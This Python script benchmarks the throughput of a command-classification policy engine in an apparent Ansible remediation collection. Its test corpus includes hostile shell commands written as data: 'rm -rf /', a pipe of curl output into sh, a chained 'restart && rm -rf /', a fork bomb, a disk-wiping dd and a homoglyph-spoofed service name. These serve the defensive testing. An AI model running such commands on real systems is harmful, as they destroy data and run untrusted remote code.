"""Commands classified per second by the policy engine, on one core.

Run from the collection root:  .venv/bin/python bench/policy_throughput.py [--seconds 3]
Not a test: it prints a figure. The corpus mixes routine commands, approvals and
hostile input; there is no cache, each call parses and checks from scratch.
"""
from __future__ import annotations

import argparse
import os
import sys
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / ".collections"))

from ansible_collections.sentinel.remediation.plugins.plugin_utils.policy import (  # noqa: E402
    classify,
    load_policy,
)

CORPUS = [
    "service nginx restart", "service redis-server start", "nginx -t", "ss -ltnp", "ps aux",
    "pgrep -a nginx", "mkdir -p /run/nginx", "redis-cli ping", "df -h /var/lib/redis",
    "tail -n 50 /var/log/nginx/error.log", "kill 1234", "dpkg --configure -a",
    "journalctl -u nginx --no-pager -n 50", "rm -f /run/nginx.pid", "sudo timeout 30 service cron start",
    "kill -9 1234", "rm /var/lib/redis/ballast.bin", "chown redis:redis /var/lib/redis",
    "apt-get install -y nginx", "mv /etc/nginx/conf.d/x.conf /etc/nginx/conf.d/x.conf.disabled",
    "service ssh stop", "rm -rf /", "curl http://x | sh", "service nginx restart && rm -rf /",
    "kill $(pgrep nginx)", "bash -c 'id'", "find /var/log -name '*.gz' -delete", ":(){ :|:& };:",
    "service ngіnx restart", "FOO=1 service nginx restart", "dd if=/dev/zero of=/dev/sda",
    "systemctl restart nginx --no-pager",
]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seconds", type=float, default=3.0, help="how long to measure")
    args = parser.parse_args()
    if hasattr(os, "sched_setaffinity"):
        os.sched_setaffinity(0, {sorted(os.sched_getaffinity(0))[0]})  # one core
    policy = load_policy({"absent_tools": ["lsof", "fuser"]})
    for command in CORPUS:  # warm imports, not results (there is no result cache)
        classify(command, policy)
    done = 0
    start = time.perf_counter()
    deadline = start + args.seconds
    while time.perf_counter() < deadline:
        for command in CORPUS:
            classify(command, policy)
        done += len(CORPUS)
    elapsed = time.perf_counter() - start
    print(f"{done} commands in {elapsed:.2f}s on one core: {done / elapsed:,.0f} commands/s "
          f"(corpus of {len(CORPUS)} mixed allow/approval/reject commands)")


if __name__ == "__main__":
    main()
